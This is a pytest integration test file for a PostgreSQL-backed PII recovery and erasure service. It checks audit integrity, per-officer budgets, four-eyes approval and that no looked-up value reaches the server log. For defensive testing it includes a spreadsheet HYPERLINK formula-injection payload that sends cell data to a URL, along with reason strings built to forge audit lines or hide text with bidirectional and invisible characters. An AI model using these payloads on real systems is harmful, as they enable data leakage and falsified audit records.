"""Recovery and erasure as requests to the recovery service, attacked with each role's own login:
nothing an officer's session does — roll back, swallow an error, any isolation level, many
sessions at once, retries — yields an answer without a committed audit row, or more answers
than the budget; the service survives a kill mid-request; answers are the asker's, once, and
expire; four eyes; reasons that cannot forge the audit; no looked-up value in the server log.

Real PostgreSQL, real `loginvault recovery serve` processes, real dbt.
"""

from __future__ import annotations

import csv
import io
import json
import secrets
import signal
import threading
import time

import psycopg
import pytest

from conftest import (
    KEY_VARIABLES,
    Job,
    database_name,
    execute,
    ip_token,
    metric,
    officer_env,
    query,
    role_dsn,
    scrape,
    start_recovery_service,
    wait_until,
)
from ingest import config
from ingest.local.network import free_port
from ingest.vault import audit, keys, reasons

pytestmark = [pytest.mark.integration, pytest.mark.slow]

OFFICER = config.WORKLOADS[config.PII_ADMIN_ROLE].local_login
SECOND_OFFICER = "loginvault_privacy_officer_2"


@pytest.fixture
def job(fresh):
    """A copy of `origin` (conftest: 20 messages ingested and transformed) of this test's own,
    its own recovery service on first use."""
    yield fresh
    fresh.stop_service()


def officer(job: Job, login: str | None = None) -> psycopg.Connection:
    dsn = role_dsn(job.dsn, config.PII_ADMIN_ROLE)
    if login is not None:
        dsn = dsn.replace(f"//{OFFICER}:", f"//{login}:")
    return psycopg.connect(dsn, autocommit=True)


def second_officer(job: Job) -> str:
    """Another privacy officer's login (four eyes, someone else's answers)."""
    password = role_dsn(job.dsn, config.PII_ADMIN_ROLE).split(":")[2].split("@")[0]
    execute(
        job.dsn,
        f"DO $$ BEGIN IF NOT EXISTS (SELECT FROM pg_roles WHERE rolname = '{SECOND_OFFICER}') THEN"
        f" CREATE ROLE {SECOND_OFFICER} LOGIN PASSWORD '{password}'; END IF; END $$;"
        f" GRANT {config.PII_ADMIN_ROLE} TO {SECOND_OFFICER}; GRANT CONNECT ON DATABASE"
        f' "{database_name(job.dsn)}" TO {SECOND_OFFICER}',
    )
    return SECOND_OFFICER


def audit_rows(job: Job) -> int:
    return query(job.dsn, "SELECT count(*) FROM pii.recovery_audit")[0][0]


def file_value(conn: psycopg.Connection, token: str, reason: str = "R") -> int:
    return conn.execute("SELECT request_id FROM pii.request_value(%s, %s)", (token, reason)).fetchone()[0]


def answered(conn: psycopg.Connection, request_id: int, timeout: float = 30) -> dict:
    """Waits for the service, then reads the answer (once)."""
    wait_until(
        lambda: conn.execute("SELECT answered FROM pii.request_status(%s)", (request_id,)).fetchone()[0],
        timeout,
        f"an answer to request {request_id}",
    )
    return conn.execute("SELECT pii.take_answer(%s)", (request_id,)).fetchone()[0]


# ---------------------------------------------------------------- what an officer's login may run


OFFICER_FUNCTIONS = {
    "pii.cancel_request(bigint)",
    "pii.decide_request(bigint, boolean, text)",
    "pii.request_erasure(text, text, boolean)",
    "pii.request_status(bigint)",
    "pii.request_token(text, text, text)",
    "pii.request_value(text, text)",
    "pii.take_answer(bigint)",
    "pii.waiting_requests()",
}


def test_an_officer_may_run_exactly_the_request_functions(job):
    """Allowed, not forbidden: every function of the project's schemas an officer may execute."""
    allowed = query(
        job.dsn,
        "SELECT p.oid::regprocedure::text FROM pg_proc AS p JOIN pg_namespace AS n ON n.oid = p.pronamespace"
        " WHERE n.nspname IN ('pii', 'loginvault', 'raw', 'staging') AND has_function_privilege(%s, p.oid, 'EXECUTE')"
        " ORDER BY 1",
        (OFFICER,),
    )
    expected = query(job.dsn, "SELECT unnest(%s::text[])::regprocedure::text ORDER BY 1", (sorted(OFFICER_FUNCTIONS),))
    assert allowed == expected


def test_rolled_back_or_swallowed_requests_yield_nothing(job):
    token, ip = ip_token(job)
    job.ensure_service()
    with officer(job) as conn:
        # A request in a transaction that is rolled back: the service never sees it.
        conn.execute("BEGIN")
        request_id = file_value(conn, token)
        seen = [conn.execute("SELECT * FROM pii.request_status(%s)", (request_id,)).fetchall()]
        time.sleep(1.5)  # a request the service could see would be answered well within this
        seen.append(conn.execute("SELECT pii.take_answer(%s)", (request_id,)).fetchall())
        conn.execute("ROLLBACK")
        # 300 requests, each in a block that raises after it and swallows the error.
        conn.execute(
            "DO $$ DECLARE id bigint; BEGIN FOR i IN 1..300 LOOP BEGIN"
            f" SELECT request_id INTO id FROM pii.request_value('{token}', 'swallowed');"
            " PERFORM pii.take_answer(id); RAISE EXCEPTION 'swallow me';"
            " EXCEPTION WHEN others THEN NULL; END; END LOOP; END $$"
        )
        # Every function an officer may run, in a transaction that is rolled back.
        conn.execute("BEGIN")
        for statement in (
            f"SELECT * FROM pii.request_value('{token}', 'rb')",
            f"SELECT * FROM pii.request_token('ip', '{ip}', 'rb')",
            "SELECT * FROM pii.request_erasure('someone', 'rb', true)",
            "SELECT * FROM pii.waiting_requests()",
            "SELECT * FROM pii.request_status(1)",
            "SELECT pii.take_answer(1)",
            "SELECT pii.cancel_request(1)",
            "SELECT pii.decide_request(1, true, 'rb')",
        ):
            seen.append(conn.execute(statement).fetchall())
        conn.execute("ROLLBACK")
    assert ip not in repr(seen)
    assert audit_rows(job) == 0
    assert query(job.dsn, "SELECT count(*) FROM pii.recovery_requests") == [(0,)]
    assert query(job.dsn, "SELECT count(*) FROM pii.recovery_answers") == [(0,)]


def test_an_answer_exists_only_with_its_committed_audit_row_and_is_read_once(job):
    token, ip = ip_token(job)
    job.ensure_service()
    with officer(job) as conn:
        request_id = file_value(conn, token, "once")
        wait_until(
            lambda: conn.execute("SELECT answered FROM pii.request_status(%s)", (request_id,)).fetchone()[0],
            30,
            "the answer",
        )
        # The answer is readable: its audit row has committed (the admin, outside, sees it).
        assert query(job.dsn, "SELECT request_id, outcome FROM pii.recovery_audit") == [(request_id, "found")]
        # A read that is rolled back leaves the answer (it stands for the one audited lookup).
        conn.execute("BEGIN")
        assert conn.execute("SELECT pii.take_answer(%s)", (request_id,)).fetchone()[0]["values"][0]["value"] == ip
        conn.execute("ROLLBACK")
        answer = conn.execute("SELECT pii.take_answer(%s)", (request_id,)).fetchone()[0]
        assert answer == {
            "outcome": "found",
            "kind": "ip",
            "values": [{"kind": "ip", "value": ip, "current_token": token}],
        }
        assert conn.execute("SELECT pii.take_answer(%s)", (request_id,)).fetchone() == (None,)
    assert audit_rows(job) == 1


# ---------------------------------------------------------------- the budget under concurrency


def test_twenty_sessions_in_two_isolation_levels_get_exactly_the_budget(job, tmp_path):
    token, _ = ip_token(job)
    execute(job.dsn, f"INSERT INTO pii.recovery_budget (login, daily_lookups) VALUES ('{OFFICER}', 5)")
    job.ensure_service()
    second = start_recovery_service(job.env, tmp_path / "replica")  # two replicas take requests
    try:
        outcomes: list[str] = []
        errors: list[BaseException] = []
        start = threading.Barrier(20)

        def ask(i: int) -> None:
            try:
                with officer(job) as conn:
                    level = "REPEATABLE READ" if i % 2 else "READ COMMITTED"
                    start.wait(30)
                    conn.execute(f"BEGIN ISOLATION LEVEL {level}")
                    request_id = file_value(conn, token, f"C-{i}")
                    conn.execute("COMMIT")
                    outcomes.append(answered(conn, request_id, timeout=60)["outcome"])
            except BaseException as exc:  # reported below: a thread's failure fails the test
                errors.append(exc)

        threads = [threading.Thread(target=ask, args=(i,)) for i in range(20)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(120)
        assert not errors, errors
    finally:
        second.signal(signal.SIGTERM)
        second.finish(30)
    assert sorted(outcomes) == ["found"] * 5 + ["over_budget"] * 15
    assert query(job.dsn, "SELECT outcome, count(*) FROM pii.recovery_audit GROUP BY 1 ORDER BY 1") == [
        ("found", 5),
        ("over_budget", 15),
    ]


# ---------------------------------------------------------------- the service killed mid-request


def test_a_service_killed_before_its_commit_answers_once_after_restart(job):
    token, ip = ip_token(job)
    paused = job.ensure_service(env={**job.env, "LOGINVAULT_FAULT_PAUSE": "serving=inf"})
    with officer(job) as conn:
        request_id = file_value(conn, token, "KILL-1")
        paused.wait_for("fault: paused at serving")
        paused.kill9()
        job.service = None
        # Taken, looked up and audited in a transaction that never committed: nothing of it.
        assert audit_rows(job) == 0
        assert query(job.dsn, "SELECT state FROM pii.recovery_requests") == [("pending",)]
        job.ensure_service()
        answer = answered(conn, request_id)
    assert answer["values"][0]["value"] == ip
    assert query(job.dsn, "SELECT request_id, outcome FROM pii.recovery_audit") == [(request_id, "found")]


# ---------------------------------------------------------------- whose answer, for how long


def test_another_officer_cannot_read_an_answer_and_an_expired_one_is_gone(job):
    token, ip = ip_token(job)
    other = second_officer(job)
    job.ensure_service("--poll-seconds", "0.2")
    with officer(job) as mine, officer(job, other) as theirs:
        request_id = file_value(mine, token)
        wait_until(
            lambda: mine.execute("SELECT answered FROM pii.request_status(%s)", (request_id,)).fetchone()[0], 30, "it"
        )
        assert theirs.execute("SELECT * FROM pii.request_status(%s)", (request_id,)).fetchall() == []
        assert theirs.execute("SELECT pii.take_answer(%s)", (request_id,)).fetchone() == (None,)
        assert theirs.execute("SELECT pii.cancel_request(%s)", (request_id,)).fetchone() == (None,)
        assert mine.execute("SELECT pii.take_answer(%s)", (request_id,)).fetchone()[0]["values"][0]["value"] == ip
    # An answer not read within its time is gone, from the table too.
    job.stop_service()
    job.ensure_service(env={**job.env, "LOGINVAULT_RECOVERY_ANSWER_TTL_SECONDS": "1"})
    with officer(job) as mine:
        request_id = file_value(mine, token)
        wait_until(lambda: query(job.dsn, "SELECT count(*) FROM pii.recovery_answers")[0][0] == 1, 30, "the answer")
        wait_until(lambda: query(job.dsn, "SELECT count(*) FROM pii.recovery_answers")[0][0] == 0, 30, "its expiry")
        assert mine.execute("SELECT pii.take_answer(%s)", (request_id,)).fetchone() == (None,)
    result = job.run("recover", "answer", str(request_id), "--timeout", "1", ok=False)
    assert result.returncode == 1 and "its answer is gone" in result.stderr and ip not in result.stderr


def set_aside(job: Job, reason: str) -> int:
    """The id of the request filed with `reason`, once the service has set it aside for approval."""
    waiting = "SELECT id FROM pii.recovery_requests WHERE reason = %s AND state = 'awaiting_approval'"
    return wait_until(lambda: query(job.dsn, waiting, (reason,)), 60, f"request {reason} set aside")[0][0]


def test_four_eyes_another_officer_approves_and_nobody_approves_their_own(job, spawn):
    token, ip = ip_token(job)
    other = second_officer(job)
    job.ensure_service(env={**job.env, "LOGINVAULT_RECOVERY_APPROVALS": "1"})
    # The officer's command waits, as long as it was told, while the request waits for approval:
    # the test waits for the service to set it aside, not for a time.
    asking = spawn(
        "recover", "lookup", "--token", token, "--reason", "4E-1", "--timeout", "300", env=officer_env(job.env)
    )
    request_id = set_aside(job, "4E-1")
    assert audit_rows(job) == 0
    waiting = job.run("recover", "answer", str(request_id), "--timeout", "1", ok=False)
    assert waiting.returncode == 3 and "waits for another officer's approval" in waiting.stderr
    pending = job.run("recover", "pending").stdout.splitlines()
    assert pending[1].split("\t")[0] == str(request_id) and "awaiting_approval" in pending[1]
    own = job.run("recover", "approve", str(request_id), "--reason", "me", ok=False)
    assert own.returncode == 1 and "is your own" in own.stderr
    other_env = {
        **job.env,
        "LOGINVAULT_PII_ADMIN_DSN": role_dsn(job.dsn, config.PII_ADMIN_ROLE).replace(OFFICER, other),
    }
    assert "approved" in job.run("recover", "approve", str(request_id), "--reason", "ok by me", env=other_env).stderr
    result = asking.finish(timeout=120)  # the waiting command gets the answer
    assert result.returncode == 0, result.stderr
    assert result.stdout == f"ip\t{ip}\n"
    # A rejected request is never served.
    asking = spawn("recover", "lookup", "--ip", ip, "--reason", "4E-2", "--timeout", "300", env=officer_env(job.env))
    rejected = set_aside(job, "4E-2")
    job.run("recover", "reject", str(rejected), "--reason", "no ticket", env=other_env)
    for refused in (
        asking.finish(timeout=120),
        job.run("recover", "answer", str(rejected), "--timeout", "2", ok=False),
    ):
        assert refused.returncode == 1 and "rejected by another officer" in refused.stderr
    assert query(job.dsn, "SELECT login_user, decision, reason FROM pii.recovery_approvals ORDER BY id") == [
        (other, "approved", "ok by me"),
        (other, "rejected", "no ticket"),
    ]
    events = [line.split("\t") for line in job.run("audit").stdout.splitlines()[1:]]
    assert [(e[1], e[8]) for e in events if e[1] in ("approval", "lookup")] == [
        ("approval", "approved"),
        ("lookup", "found"),
        ("approval", "rejected"),
    ]


# ---------------------------------------------------------------- no key in the officer's environment


def test_recover_both_ways_and_erase_work_with_no_key_in_the_officers_environment(job):
    token, ip = ip_token(job)
    job.ensure_service()
    env = {name: value for name, value in job.env.items() if name not in KEY_VARIABLES}
    assert not {config.HMAC_KEY_ENV, config.ENCRYPTION_KEY_ENV, "PGOPTIONS"} & set(env)
    assert job.run("recover", "lookup", "--token", token, "--reason", "NK-1", env=env).stdout == f"ip\t{ip}\n"
    assert job.run("recover", "lookup", "--ip", ip, "--reason", "NK-2", env=env).stdout.split("\t")[0] == token
    (user,) = query(job.dsn, "SELECT user_id FROM user_logins WHERE masked_ip = %s LIMIT 1", (token,))[0]
    erased = job.run("erase", "--user-id", user, "--reason", "NK-3", env=env)
    assert "erase: erased" in erased.stderr
    assert query(job.dsn, "SELECT count(*) FROM user_logins WHERE user_id = %s", (user,)) == [(0,)]


def test_no_value_or_user_id_in_the_server_log(pg_cluster, job):
    token, ip = ip_token(job)
    (user,) = query(job.dsn, "SELECT user_id FROM user_logins WHERE masked_ip = %s LIMIT 1", (token,))[0]
    device = "123-45-6789"
    database = database_name(job.dsn)
    execute(job.dsn, f"ALTER DATABASE \"{database}\" SET log_statement = 'all'")
    execute(job.dsn, f'ALTER DATABASE "{database}" SET log_min_duration_statement = 0')
    log_start = pg_cluster.log.stat().st_size
    job.run("recover", "lookup", "--token", token, "--reason", "LOG-1")
    job.run("recover", "lookup", "--ip", ip, "--reason", "LOG-2")
    job.run("recover", "lookup", "--device-id", device, "--reason", "LOG-3")
    job.run("erase", "--user-id", user, "--reason", "LOG-4")
    with open(pg_cluster.log, errors="replace") as f:
        f.seek(log_start)
        server_log = f.read()
    # The statements were logged (the check is not vacuous), their parameters were not.
    assert "pii.request_token" in server_log and "pii.request_erasure" in server_log
    assert "serve_next_request" in server_log
    for value in (ip, device, user):
        assert value not in server_log


# ---------------------------------------------------------------- reasons and the audit's output


BAD_REASONS = {
    "tab": "\t",
    "non-breaking space": "\u00a0",
    "zero-width space": "\u200b",
    "newline and tabs": "INC-1\n2026-01-01T00:00:00\tlookup\t1\tsomeone_else",
    "oversized": "x" * 501,
    "bidirectional override": "INC-1 \u202etxt.exe",
    "unassigned invisible": "\u2065",
    "noncharacter": "\ufff0",
    "tag character": "\U000e0002",
    "combining marks alone": "\u0300\u0301",
    "punctuation alone": "...",
}


@pytest.mark.parametrize("reason", list(BAD_REASONS.values()), ids=list(BAD_REASONS))
def test_a_reason_that_could_not_be_audited_is_refused(job, reason):
    token, _ = ip_token(job)
    result = job.run("recover", "lookup", "--token", token, "--reason", reason, ok=False)
    assert result.returncode == 2 and len(result.error_lines()) == 1 and "--reason" in result.error_lines()[0]
    assert query(job.dsn, "SELECT count(*) FROM pii.recovery_requests") == [(0,)]  # not sent
    # Sent straight to the database, it is refused there, and the refusal is audited.
    with officer(job) as conn:
        state, refusal = conn.execute(
            "SELECT request_state, refusal FROM pii.request_value(%s, %s)", (token, reason)
        ).fetchone()
    assert state == "refused" and refusal == reasons.problem(reason)
    ((kind, outcome, stored),) = query(job.dsn, "SELECT kind, outcome, reason FROM pii.recovery_requests")
    assert (kind, outcome) == ("recover_value", "invalid_reason") and stored == f"(refused: {refusal})"


def test_the_database_and_the_command_apply_the_same_reason_rule(job):
    """Code point by code point: which characters are control characters, which are blank."""
    in_sql = {
        code: (with_text, alone)
        for code, with_text, alone in query(
            job.dsn,
            "SELECT g, loginvault.reason_problem('x' || chr(g)), loginvault.reason_problem(chr(g))"
            " FROM generate_series(1, 1114111) AS g WHERE g NOT BETWEEN 55296 AND 57343"
            "   AND loginvault.reason_problem(chr(g)) IS NOT NULL",
        )
    }
    in_python = {
        code: (reasons.problem("x" + chr(code)), reasons.problem(chr(code)))
        for code in range(1, 0x110000)
        if not 0xD800 <= code <= 0xDFFF and reasons.problem(chr(code)) is not None
    }
    assert in_sql == in_python
    controls = sum(high - low + 1 for low, high in reasons.CONTROL)
    assert sum(1 for with_text, _ in in_sql.values() if with_text) == controls
    assert len(in_sql) > controls + 60  # the blank ones: white space, format characters, fillers


def audit_row(job: Job, reason: str) -> None:
    """An audit row with this reason, as an earlier version, or a hostile admin, could have written it."""
    with psycopg.connect(job.dsn, autocommit=True) as conn:
        conn.execute(
            "INSERT INTO pii.recovery_audit (login_user, direction, kind, token, found, outcome, reason)"
            " VALUES (%s, 'token_to_value', 'ip', 'abc', true, 'found', %s)",
            (OFFICER, reason),
        )


def test_no_field_can_forge_a_line_of_the_audit(job):
    forged = "INC-7\n2026-01-01T00:00:00+00:00\tlookup\t1\tsomeone_else\t\ttoken_to_value\tip\t\tfound\tforged"
    audit_row(job, forged)
    text = job.run("audit").stdout.splitlines()
    assert len(text) == 2 and "someone_else" in text[1] and "\\n" in text[1]
    assert text[1].count("\t") == len(audit.COLUMNS) - 1
    (row,) = list(csv.reader(io.StringIO(job.run("audit", "--format", "csv").stdout)))[1:]
    assert row[-1] == forged
    (line,) = job.run("audit", "--format", "json").stdout.splitlines()
    assert json.loads(line)["reason"] == forged and json.loads(line)["login_user"] == OFFICER


def test_unknown_or_malformed_requests_are_refused_in_one_line(job):
    bad_token = job.run("recover", "lookup", "--token", "nothex", "--reason", "X", ok=False)
    assert bad_token.returncode == 2 and "64 lowercase hex" in bad_token.error_lines()[0]
    for args in (
        ("approve",),
        ("pending", "3"),
        ("answer", "1", "--reason", "x"),
        ("--token", secrets.token_hex(32), "approve", "1"),
        ("lookup", "--token", secrets.token_hex(32), "--ip", "10.0.0.1", "--reason", "x"),
        ("approve", "1", "--reason", "x", "--timeout", "3"),
    ):
        result = job.run("recover", *args, ok=False)
        # argparse's usage, then its one line: `loginvault recover ACTION: error: …`.
        (said,) = [line for line in result.stderr.splitlines() if "error:" in line]
        assert result.returncode == 2 and said.startswith("loginvault recover"), (args, result.stderr)


# ---------------------------------------------------------------- /metrics and /healthz

OVER_BUDGET = '{kind="recover_value",outcome="over_budget"}'


def refusal_counted(port: int) -> str | None:
    """The service's /metrics text once it has counted a lookup refused over the budget (the last
    count of a request refused so)."""
    text = scrape(port)[1]
    return text if metric(text, "loginvault_recovery_budget_refusals_total") else None


def test_the_service_reports_requests_refusals_and_its_queue(job):
    token, _ = ip_token(job)
    port = free_port()
    execute(job.dsn, f"INSERT INTO pii.recovery_budget (login, daily_lookups) VALUES ('{OFFICER}', 1)")
    job.ensure_service("--metrics-port", str(port), "--metrics-host", "127.0.0.1", "--poll-seconds", "0.2")
    assert scrape(port, "/healthz") == (200, "ok\n")
    job.run("recover", "lookup", "--token", token, "--reason", "M-1")
    job.run("recover", "lookup", "--token", token, "--reason", "M-2", ok=False)
    # The service counts a request after its commit, which the officer's command may see first
    # (one service thread: the first request was counted before the second was taken).
    text = wait_until(lambda: refusal_counted(port), 30, "the refused request counted")
    assert metric(text, "loginvault_recovery_requests_total", '{kind="recover_value",outcome="found"}') == 1
    assert metric(text, "loginvault_recovery_requests_total", OVER_BUDGET) == 1
    assert metric(text, "loginvault_recovery_budget_refusals_total") == 1
    # An erasure the service must leave for later (a build holds the transform lock) ages in the queue.
    with officer(job) as conn, psycopg.connect(job.dsn, autocommit=True) as admin:
        admin.execute("SELECT pg_advisory_lock(%s)", (keys.TRANSFORM_LOCK,))
        request_id = conn.execute("SELECT request_id FROM pii.request_erasure('nobody', 'M-3', true)").fetchone()[0]
        wait_until(
            lambda: (metric(scrape(port)[1], "loginvault_recovery_oldest_waiting_request_seconds") or 0) > 0.5,
            30,
            "the oldest waiting request's age",
        )
        assert metric(scrape(port)[1], "loginvault_recovery_waiting_requests") == 1
        conn.execute("SELECT pii.cancel_request(%s)", (request_id,))
    wait_until(lambda: metric(scrape(port)[1], "loginvault_recovery_timed_out_requests") == 1, 30, "the cancel")
    assert metric(scrape(port)[1], "loginvault_recovery_last_poll_timestamp_seconds") > time.time() - 30


def test_one_login_cannot_fill_the_queue(job):
    """With no service running, the 21st waiting request of a login is refused (and recorded)."""
    token, _ = ip_token(job)
    with officer(job) as conn:
        states = [
            conn.execute("SELECT request_state FROM pii.request_value(%s, %s)", (token, f"Q-{i}")).fetchone()[0]
            for i in range(21)
        ]
    assert states == ["pending"] * 20 + ["refused"]
    assert query(job.dsn, "SELECT outcome FROM pii.recovery_requests WHERE reason = 'Q-20'") == [("invalid_request",)]


def test_a_spreadsheet_runs_no_formula_from_the_csv_audit(job):
    formula = '=HYPERLINK("http://127.0.0.1:9/?"&B1,"ticket INC-4711 approved by DPO")'
    audit_row(job, formula)
    (row,) = list(csv.reader(io.StringIO(job.run("audit", "--format", "csv").stdout)))[1:]
    assert row[-1] == "'" + formula


# ---------------------------------------------------------------- what an officer could do to the others


def test_no_workload_but_the_transformer_may_take_an_advisory_lock(job):
    """The transform lock (and the bootstrap's) cannot be taken, and held, by another login."""
    for role in (config.PII_ADMIN_ROLE, config.ANALYST_ROLE, config.AUDITOR_ROLE, config.LOADER_ROLE,
                 config.RECOVERY_SERVICE_ROLE):  # fmt: skip
        with psycopg.connect(role_dsn(job.dsn, role), autocommit=True) as conn:
            for statement in (
                f"SELECT pg_advisory_lock({keys.TRANSFORM_LOCK})",
                f"SELECT pg_try_advisory_xact_lock({keys.TRANSFORM_LOCK})",
                "SELECT pg_advisory_lock_shared(1, 2)",
            ):
                with pytest.raises(psycopg.errors.InsufficientPrivilege):
                    conn.execute(statement)
    with psycopg.connect(role_dsn(job.dsn, config.TRANSFORMER_ROLE), autocommit=True) as conn:
        assert conn.execute(f"SELECT pg_try_advisory_lock({keys.TRANSFORM_LOCK})").fetchone() == (True,)
    with officer(job) as conn, pytest.raises(psycopg.errors.InsufficientPrivilege):
        conn.execute("SELECT * FROM pii.recovery_budget_locks FOR UPDATE")


def test_every_login_has_a_connection_limit(job):
    """No one login can take every connection slot (the loader's 100 connections once stopped the
    transform and the officers)."""
    limits = dict(query(job.dsn, "SELECT rolname, rolconnlimit FROM pg_roles WHERE rolname LIKE 'loginvault%'"))
    max_connections = int(query(job.dsn, "SHOW max_connections")[0][0])
    for workload in config.WORKLOADS.values():
        assert 0 < limits[workload.local_login] == workload.connection_limit < max_connections * 2 // 3
    assert limits[OFFICER] == 25


def test_without_four_eyes_no_officer_can_decide_on_anothers_request(job):
    token, _ = ip_token(job)
    other = second_officer(job)
    with officer(job, other) as theirs, officer(job) as mine:
        request_id = file_value(mine, token, "D-1")  # no service: it stays pending
        assert theirs.execute("SELECT pii.decide_request(%s, false, 'no')", (request_id,)).fetchone() == (
            "not_waiting",
        )
    assert query(job.dsn, "SELECT state FROM pii.recovery_requests") == [("pending",)]
    assert query(job.dsn, "SELECT count(*) FROM pii.recovery_approvals") == [(0,)]


def test_a_request_is_dated_when_it_is_filed_not_when_its_transaction_began(job):
    token, _ = ip_token(job)
    with officer(job) as conn:
        conn.execute("BEGIN")
        (began,) = conn.execute("SELECT now()").fetchone()
        conn.execute("SELECT pg_sleep(1.5)")
        request_id = file_value(conn, token, "T-1")
        conn.execute("COMMIT")
    ((filed,),) = query(job.dsn, "SELECT requested_at FROM pii.recovery_requests WHERE id = %s", (request_id,))
    assert (filed - began).total_seconds() >= 1.5
